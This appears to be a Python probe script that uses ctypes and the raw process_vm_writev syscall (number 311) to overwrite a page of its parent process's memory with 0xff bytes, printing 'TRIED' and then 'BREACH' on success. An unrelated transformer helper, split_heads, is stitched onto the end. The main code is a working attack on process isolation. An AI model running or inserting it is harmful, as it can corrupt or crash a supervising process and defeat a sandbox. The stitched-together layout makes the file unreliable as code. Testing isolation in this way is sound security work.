"""Writes into its parent's memory by process_vm_writev."""

import ctypes
import os


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
noise = ctypes.create_string_buffer(b"\xff" * 4096)
print("TRIED", flush=True)
local, remote = Part(ctypes.addressof(noise), 4096), Part(id(os) & ~0xFFF, 4096)
if libc.syscall(311, os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
    print("BREACH")


def split_heads(x, num_heads):
    batch, seq_len, d_model = x.shape
    return x.reshape(batch, seq_len, num_heads, d_model // num_heads).swapaxes(1, 2)
